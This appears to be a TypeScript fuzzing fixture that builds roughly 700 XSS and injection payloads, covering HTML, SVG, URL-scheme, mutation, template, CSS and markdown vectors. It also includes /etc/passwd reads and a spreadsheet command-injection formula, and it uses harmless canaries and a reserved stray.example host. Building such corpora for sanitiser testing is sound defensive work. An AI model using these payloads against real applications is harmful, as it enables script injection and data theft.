// What people with bad intentions type into text fields: families of payloads, each in the places where it could break out.
// Every payload either calls __hit(), asks for /__hit or stray.example, or makes an element or attribute named l-hit.

export type Family = 'html' | 'svg' | 'attribute' | 'scheme' | 'mutation' | 'template' | 'css' | 'markdown'
export type Payload = { readonly family: Family; readonly text: string }

/** Run by a browser that takes the text for a script. */
export const HIT = '__hit'
/** A host that nobody of ours ever asks; `.example` is reserved (RFC 2606). */
export const STRAY = 'stray.example'

const CALL = `${HIT}()`
const CALLS = [CALL, `window.${CALL}`, `${HIT}\`1\``, `fetch('//${STRAY}')`, `top['${HIT}']()`] as const

/** Ends what may stand around a text: nothing, a tag, an attribute, a comment, a title, a script, a text area. */
const OUT = [
  '',
  '>',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  ']]>',
  '"}</script>',
] as const
const SHORT_OUT = ['', '">', "'>"] as const

const events = (call: string): string[] => [
  `<img src=x onerror=${call}>`,
  `<img/src/onerror=${call}>`,
  `<IMG SRC=x OnErRoR="${call}">`,
  `<video><source onerror=${call}>`,
  `<audio src=x onerror=${call}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<body onload=${call}>`,
  `<b onpointerenter=${call} l-hit>b</b>`,
  `<marquee onstart=${call}>`,
]

const html = (): string[] => [
  ...CALLS.flatMap((call) => [`<script>${call}</script>`, `<script>${call}//`, `<scr<script>ipt>${call}</script>`]),
  ...OUT.flatMap((out) => events(CALL).map((event) => out + event)),
  ...CALLS.slice(1).flatMap((call) => events(call).slice(0, 5)),
  ...SHORT_OUT.flatMap((out) =>
    [
      `<iframe src=//${STRAY}>`,
      `<iframe srcdoc="<script>parent.${CALL}</script>">`,
      `<object data=//${STRAY}>`,
      `<embed src=//${STRAY}>`,
      `<base href=//${STRAY}/>`,
      `<link rel=stylesheet href=//${STRAY}>`,
      `<meta http-equiv=refresh content="0;//${STRAY}">`,
      `<form action=//${STRAY}><button>b`,
      `<img src=/${HIT}>`,
      `<img srcset=//${STRAY}>`,
      `<script src=//${STRAY}></script>`,
      `<l-hit>b</l-hit>`,
      `<a href=//${STRAY} autofocus onfocus=${CALL}>b`,
      `<template shadowrootmode=open><script>${CALL}</script>`,
      `<dialog open l-hit>`,
    ].map((tag) => out + tag),
  ),
]

const svg = (): string[] =>
  ['', '">', "'>", '</svg>', '</title>', '</desc>', '-->'].flatMap((out) =>
    [
      `<svg onload=${CALL}>`,
      `<svg/onload=${CALL}>`,
      `<svg><script>${CALL}</script>`,
      `<svg><script href=data:,${CALL} />`,
      `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
      `<svg><set onbegin=${CALL} attributeName=x>`,
      `<svg><use href=//${STRAY}#x>`,
      `<svg><image href=//${STRAY}>`,
      `<svg><a xlink:href=javascript:${CALL}><text l-hit>b`,
      `<svg><foreignObject><img src=x onerror=${CALL}>`,
      `<svg><style>@import'//${STRAY}'</style>`,
    ].map((tag) => out + tag),
  )

const attribute = (): string[] => {
  const names = [
    'onerror',
    'onload',
    'onfocus',
    'onmouseover',
    'onanimationstart',
    'oncontentvisibilityautostatechange',
  ]
  return [
    ...['"', "'", '`', '" ', "' ", '"/', '&quot; ', '&#34; ', '\\"', '%22 ', '＂ '].flatMap((quote) =>
      names.map((name) => `${quote}${name}=${CALL} l-hit=`),
    ),
    ...['"', "'", '\\"', "\\'"].flatMap((quote) => [
      `${quote};${CALL};//`,
      `${quote}-${CALL}-${quote}`,
      `${quote}});${CALL};({`,
      `${quote} style=background:url(//${STRAY}) l-hit=`,
      `${quote} autofocus tabindex=1 onfocus=${CALL} l-hit=`,
      `${quote} formaction=javascript:${CALL} l-hit=`,
      `${quote} srcdoc=<script>${CALL}</script>`,
    ]),
  ]
}

const scheme = (): string[] => {
  const addresses = [
    `javascript:${CALL}`,
    `JaVaScRiPt:${CALL}`,
    ` javascript:${CALL}`,
    `java&#9;script:${CALL}`,
    `java\u200bscript:${CALL}`,
    `javascript&colon;${CALL}`,
    `javascript://%0a${CALL}`,
    `data:text/html,<script>${CALL}</script>`,
    `data:image/svg+xml,<svg onload=${CALL}>`,
    `vbscript:${CALL}`,
    `//${STRAY}/x`,
    `\\\\${STRAY}`,
    `https://${STRAY}/?a=<b l-hit>`,
    `https://a"onfocus=${CALL} l-hit=`,
    `blob:https://${STRAY}/1`,
    `tel:"onclick=${CALL} l-hit=`,
    `mailto:a"onclick=${CALL} l-hit=`,
  ]
  const around = [
    (one: string) => one,
    (one: string) => `<a href="${one}">b`,
    (one: string) => `<img src="${one}">`,
    (one: string) => `"><iframe src='${one}'>`,
    (one: string) => `<form><button formaction="${one}">b`,
    (one: string) => `<meta http-equiv=refresh content="0;url=${one}">`,
  ]
  return around.flatMap((one) => addresses.map(one))
}

/** Harmless as written; other when parsed, taken out again and parsed once more. */
const mutation = (): string[] => {
  const wrapped = [
    ['<math><mtext><table><mglyph><style><!--</style>', '</style>'],
    ['<svg></p><style><a id="</style>', '">'],
    ['<noscript><p title="</noscript>', '">'],
    ['<form><math><mtext></form><form><mglyph><style></math>', ''],
    ['<title><!--</title>', '-->'],
    ['<xmp><p title="</xmp>', '">'],
    ['<plaintext>', ''],
    ['<select><template><style><!--</template></select>', '-->'],
    ['<listing>&lt;', '&gt;</listing>'],
    ['<svg><desc><![CDATA[</desc>', ']]>'],
    ['&lt;', '&gt;'],
    ['&#60;', '&#62;'],
    ['&amp;lt;', '&amp;gt;'],
    ['\\u003c', '\\u003e'],
    ['\\x3c', '\\x3e'],
    ['%3C', '%3E'],
    ['＜', '＞'],
    ['<<', '>>'],
  ] as const
  const inner = [
    `<img src=x onerror=${CALL}>`,
    `<script>${CALL}</script>`,
    `<svg onload=${CALL}>`,
    `img src=x onerror=${CALL} l-hit`,
  ]
  return wrapped.flatMap(([before, after]) => inner.map((one) => before + one + after))
}

const template = (): string[] => {
  const call = [`${HIT}()`, `constructor.constructor('${CALL}')()`, 'name', '7*191', '0']
  const around: readonly (readonly [string, string])[] = [
    ['{{', '}}'],
    ['{', '}'],
    ['${', '}'],
    ['#{', '}'],
    ['<%=', '%>'],
    ['[[', ']]'],
    ['{% ', ' %}'],
    ['@(', ')'],
    ['#eval("', '")'],
    ['#', ''],
    ['$', '$'],
    ['{no}{', '}'],
    ['%', '%s%n'],
  ]
  return [
    ...around.flatMap(([before, after]) => call.map((one) => before + one + after)),
    '#import "/paper.typ": *',
    '#read("/etc/passwd")',
    '#include "/a.typ"',
    '= #sys.version <l-hit>',
    '#link("javascript:a")[b]',
    '\\input{/etc/passwd}',
    '$&$1$`',
    '__proto__',
    'constructor',
    '{"__proto__":{"a":1}}',
    '=1+1',
    '@SUM(1,1)',
    `=HYPERLINK("//${STRAY}")`,
    "+cmd|' /C calc'!A0",
  ]
}

const css = (): string[] =>
  ['', '">', '</style>', '*/', '}'].flatMap((out) =>
    [
      `<style>@import'//${STRAY}';</style>`,
      `<style>*{background:url(//${STRAY})}</style>`,
      `<p style=background:url(//${STRAY}) l-hit>b`,
      `<b style="position:fixed;inset:0" l-hit>b`,
      `<style>@keyframes a{}b{animation:a}</style><b onanimationstart=${CALL}>`,
      `x:expression(${CALL})`,
      `-moz-binding:url(//${STRAY})`,
      `;background:url(//${STRAY});`,
      `url(javascript:${CALL})`,
      `\\3c script\\3e ${CALL}`,
    ].map((rule) => out + rule),
  )

const markdown = (): string[] => {
  const to = [`javascript:${CALL}`, `//${STRAY}`, `data:text/html,<b l-hit>`, `x" onerror="${CALL}`]
  return [
    ...to.flatMap((one) => [
      `[b](${one})`,
      `![b](${one})`,
      `<${one}>`,
      `[b]: ${one}`,
      `[b](<${one}>)`,
      `[![b](${one})](${one})`,
    ]),
    `**<img src=x onerror=${CALL}>**`,
    `\`<img src=x onerror=${CALL}>\``,
    `# <l-hit>b`,
    `> <l-hit>b`,
    `- [x] <l-hit>b`,
    `|a|\\|<l-hit>|`,
    `~~~<l-hit>~~~`,
    `$$<l-hit>$$`,
    `:::<l-hit>:::`,
    `<!-- --><l-hit>b`,
    `[[l-hit]]`,
    `![[l-hit]]`,
    `<details><summary l-hit>b`,
    `&lt;l-hit&gt;`,
  ]
}

const FAMILIES: Readonly<Record<Family, () => readonly string[]>> = {
  html,
  svg,
  attribute,
  scheme,
  mutation,
  template,
  css,
  markdown,
}

/** About 700, none twice, without blanks at their ends and without line breaks, so that every field that takes text takes them. */
export const payloads: readonly Payload[] = [
  ...new Map(
    Object.entries(FAMILIES).flatMap(([family, make]) =>
      make().map((text) => [text.trim(), { family: family as Family, text: text.trim() }] as const),
    ),
  ).values(),
]

/** `count` of them, evenly out of every family, the short ones of each first: for tight fields. */
export function someOf(count: number): Payload[] {
  const byFamily = Object.keys(FAMILIES).map((family) =>
    payloads.filter((one) => one.family === family).toSorted((a, b) => a.text.length - b.text.length),
  )
  const most = Math.ceil(count / byFamily.length)
  const spread = (of: readonly Payload[]) =>
    Array.from({ length: most }, (_, n) => of[Math.floor((n * of.length) / most)]!)
  return byFamily.flatMap(spread).slice(0, count)
}
